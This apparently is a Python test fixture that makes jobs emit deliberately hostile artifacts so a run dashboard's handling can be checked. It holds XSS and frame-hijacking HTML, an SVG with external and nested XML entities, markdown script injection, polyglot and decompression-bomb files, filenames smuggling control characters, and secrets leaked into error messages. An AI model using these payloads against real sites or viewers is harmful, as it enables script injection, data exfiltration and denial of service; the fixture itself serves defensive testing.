"""Jobs whose artifacts, inputs and secrets a dashboard has to handle with care."""

import os
import struct
import zlib
from datetime import timedelta
from pathlib import Path
from typing import Literal

from nightproof import (
    Contract,
    Dataset,
    ModelPin,
    Quota,
    Retry,
    artifact,
    job,
    measure,
    prompt,
    served,
    spend,
    step,
)

SECRET = "correct-horse-battery-staple-9931"
EVIL = os.environ.get("EVIL", "http://127.0.0.1:9")
tokens = Quota("tokens of the house", tokens="1000000/day")

PAGE = f"""<!doctype html><meta charset=utf-8>
<meta http-equiv=refresh content="0;url={EVIL}/refresh">
<meta http-equiv=Content-Security-Policy content="default-src *">
<base href="{EVIL}/" target=_top>
<link rel=preconnect href="{EVIL}"><link rel=dns-prefetch href="{EVIL}">
<link rel=prefetch href="{EVIL}/prefetch"><link rel=stylesheet href="{EVIL}/sheet.css">
<link rel=prerender href="{EVIL}/prerender"><link rel=preload as=image href="{EVIL}/preload">
<link rel=icon href="{EVIL}/icon"><link rel=manifest href="{EVIL}/manifest">
<link rel=modulepreload href="{EVIL}/module.js">
<script type=speculationrules>{{"prerender":[{{"urls":["{EVIL}/speculated"]}}]}}</script>
<style>@import url({EVIL}/import.css);
@font-face{{font-family:f;src:url({EVIL}/font)}}
body{{font-family:f;background:url({EVIL}/background);cursor:url({EVIL}/cursor),auto}}
h1::after{{content:url({EVIL}/content)}}
h1{{position:fixed;inset:0;z-index:9999;background:red}}</style>
<h1 id=mark>framed</h1>
<script>document.title='stolen';top.document.title='stolen';parent.postMessage('stolen','*');
fetch('{EVIL}/fetch')</script>
<script src={EVIL}/script.js></script>
<img src=x onerror="top.location='{EVIL}/onerror'"><img src="{EVIL}/img" srcset="{EVIL}/srcset 2x">
<img src="/runs"><iframe src="{EVIL}/frame"></iframe><iframe src="/"></iframe>
<iframe srcdoc="<script>top.document.title='stolen'</script><img src={EVIL}/srcdoc>"></iframe>
<object data="{EVIL}/object"></object><embed src="{EVIL}/embed"><video src="{EVIL}/video" autoplay
poster="{EVIL}/poster"></video><audio src="{EVIL}/audio" autoplay></audio>
<svg><image href="{EVIL}/svgimage"/><use href="{EVIL}/use#a"/>
<animate onbegin="top.document.title='stolen'" attributeName=x dur=1s /></svg>
<form id=f action="{EVIL}/form"><input name=q autofocus onfocus="f.submit()"><button id=send>x</button>
</form><a id=away href="{EVIL}/away" ping="{EVIL}/ping">away</a>
<a id=script target=_self href="javascript:top.document.title='stolen'">script</a>
<a id=pop href="{EVIL}/pop" target=_blank>pop</a><a id=own href="/runs" target=_self>own</a>
<details open ontoggle="top.document.title='stolen'"></details><marquee onstart="top.location=1">
</marquee><portal src="{EVIL}/portal"></portal><a download href="data:text/html,x" id=load>load</a>
"""
SVG = f"""<?xml-stylesheet href="{EVIL}/xml.css"?>
<!DOCTYPE svg [<!ENTITY e SYSTEM "{EVIL}/entity"><!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="40"
onload="top.document.title='stolen'"><script>top.document.title='stolen'</script>
<script href="{EVIL}/svg.js"/><image href="{EVIL}/svg-image"/><use xlink:href="{EVIL}/svg-use#a"/>
<style>@import url({EVIL}/svg.css);</style><a href="{EVIL}/svg-away"><text y="20">drawn &b;</text></a>
<foreignObject width="90" height="40"><iframe xmlns="http://www.w3.org/1999/xhtml" src="{EVIL}/foreign"/>
</foreignObject></svg>"""
PROSE = f"""# Prose <script>document.title='stolen'</script>

<img src=x onerror="document.title='stolen'"> ![beacon]({EVIL}/prose.png) ![b](data:image/png;base64,AA)
[script](javascript:document.title='stolen') [data](data:text/html,<script>1</script>)
[act](/act/cancel?run=x) [away]({EVIL}/prose-away "t\\" onclick=x") <{EVIL}/auto>
&#x202e;gnp.exe [x]: javascript:1

| a | b |
|:--|--:|
| <b onclick=x>1</b> | {"y" * 50} |

```html onload="x" style="x"
</code></pre><script>document.title='stolen'</script>
```
"""


class Parts(Contract):
    task: Literal["parts"] = "parts"
    n: int = 1


def png(width: int = 2, height: int = 2, behind: bytes = b"") -> bytes:
    """A PNG that says it has that size."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    rows = zlib.compress(b"".join(b"\0" + b"\xc8\x50\x78" * 2 for _ in range(2)))
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    parts = (chunk(b"IHDR", head), chunk(b"IDAT", rows), chunk(b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts) + behind


@job
async def harmful(contract: Parts) -> int:
    """Every file means harm in another way."""
    await artifact("page.html", PAGE)
    await artifact("typed.txt", PAGE, media_type="text/html")
    await artifact("plain.txt", PAGE)
    await artifact("drawing.svg", SVG)
    await artifact("prose.md", PROSE)
    await artifact("real.png", png())
    await artifact("polyglot.png", png(behind=PAGE.encode()))
    await artifact("polyglot.html", b"GIF89a\x01\x00\x01\x00" + PAGE.encode())
    await artifact("false.png", PAGE, media_type="image/png")
    await artifact("bomb.png", png(60_000, 60_000))
    await artifact("wide.csv", ("," * 400 + "\n") * 900 + f"{PAGE}\n")
    await artifact("quoted.csv", 'a;b\n"' + "x" * 400_000 + '\n1;"2\n')
    await artifact("lines.csv", "a\tb\n" + "x" * 10_000_000)
    await artifact("deep.json", "[" * 100_000)
    await artifact("one.json", '{"b":[1.5,2],"a":"<script>"}')
    await artifact("twice.json", '{"a":1,"a":2}')
    await artifact("bytes.bin", bytes(range(256)) * 40)
    await artifact("latin.txt", "Grüße".encode("latin-1"))
    await artifact("utf16.txt", "Grüße aus Köln".encode("utf-16"))
    await artifact("empty.txt", "")
    await artifact("large.md", "[" * 3_000_000)
    await artifact("large.bin", b"\0" * (17 << 20))
    await artifact('folder/\u202egnp.exe "q"; x=\r\n.html', "named badly")
    await artifact("again.txt", "first")
    await artifact("again.txt", "second")
    return contract.n


@step(expires=timedelta(minutes=18), secret=True)
def token() -> str:
    return SECRET


@step(secret=True)
def other_token(known: str) -> dict[str, str]:
    return {"header": f"Bearer {known}"}


@step(retry=Retry(attempts=1), quota=tokens)
def ask(key: str, question: str) -> str:
    spend(tokens=120, money=0.25)
    served(requested="sun-4", reported="sun-4-2026-01-01", provider="moon")
    if question == "raise":
        raise ValueError(f"the key {key} was refused")
    return question.upper()


@step
def silent(question: str) -> str:
    served(requested="sun-4-2026-01-01", reported="sun-4-2026-01-01", provider="moon")
    return question


@job
async def secretive(contract: Parts) -> int:
    """Secrets go in as arguments and into errors; what it costs is told, in part."""
    key = await token()
    more = await other_token(key)
    await ask(key, "why")
    await silent("how")
    Path("read.txt").write_text("x")
    Path("read.txt").read_text()
    os.environ.get("HOUSE_STYLE")
    measure("tokens_saved", 7)
    try:
        await ask(more["header"], "raise")
    except Exception:
        return 0
    return 1


class Given(Contract):
    task: Literal["given"] = "given"
    data: Dataset
    prompt_id: str
    other_prompt: str
    model: ModelPin


@step
def consult(text: str, model: str) -> str:
    prompt("weekly@7")
    served(requested=model, reported="moon-9-2026-02-02", provider="sky")
    return text


@job
async def given(contract: Given) -> int:
    """Its contract names a dataset, prompts and a model; another model answers."""
    await consult("x", contract.model.pinned_version)
    return len(contract.data.path.read_bytes())
